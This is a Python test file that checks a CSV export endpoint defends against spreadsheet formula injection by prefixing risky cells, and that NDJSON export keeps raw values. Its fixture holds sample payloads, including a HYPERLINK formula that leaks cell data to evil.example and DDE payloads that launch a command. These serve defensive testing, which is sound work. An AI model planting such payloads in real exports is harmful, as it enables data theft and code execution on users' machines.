"""CSV export against formula injection: a cell a spreadsheet would run as a formula is
prefixed with `'` (OWASP); NDJSON carries the values unchanged."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import httpx
import orjson
import pytest_asyncio

from shared.db import connect
from tests.query.helpers import add_agent, add_org, client_for, insert, make_rows, settings_for
from tests.query.helpers import token as make_token

ORG = "qf-org"
ADMIN = make_token(ORG, "ada", "admin")
#: Each field of one row starts with one of the characters a spreadsheet reads as a formula.
RISKY = {
    "message": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "response": "+1+cmd|' /C calc'!A0",
    "error": "-2+3",
    "workflow": "@SUM(1+1)*cmd|' /C calc'!A0",
    "project": "\t=1+1",
    "external_id": "\r=1+1",
}
SAFE = {"message": "a plain message = fine", "response": "'quoted already", "error": "x-1"}


@pytest_asyncio.fixture(scope="module")
async def client(database_url: str, nats_url: str) -> AsyncIterator[httpx.AsyncClient]:
    conn = await connect(database_url)
    try:
        await add_org(conn, ORG)
        await add_agent(conn, ORG, "worker", display_name="=1+2")
        risky, safe = make_rows(ORG, ("worker",), 2, seed=12)
        risky.update(id="risky", **RISKY)
        safe.update(id="safe", **SAFE)
        await insert(conn, [risky, safe])
    finally:
        await conn.close()
    async with client_for(settings_for(database_url, nats_url)) as found:
        yield found


async def test_csv_cells_that_start_a_formula_are_prefixed(client: httpx.AsyncClient) -> None:
    reply = await client.get("/api/executions/export", params={"format": "csv"}, headers=ADMIN)
    assert reply.status_code == 200, reply.text
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(reply.text, newline=""))}
    for name, value in RISKY.items():
        assert rows["risky"][name] == "'" + value, name
    assert rows["risky"]["agent_display_name"] == "'=1+2"
    for name, value in SAFE.items():
        assert rows["safe"][name] == value, name
    assert rows["safe"]["started_at"][:1].isdigit()  # dates and numbers stay as they are


async def test_ndjson_keeps_the_values(client: httpx.AsyncClient) -> None:
    reply = await client.get("/api/executions/export", params={"format": "ndjson"}, headers=ADMIN)
    rows = {r["id"]: r for r in map(orjson.loads, reply.text.splitlines())}
    for name, value in RISKY.items():
        assert rows["risky"][name] == value, name
    assert rows["risky"]["agent_display_name"] == "=1+2"
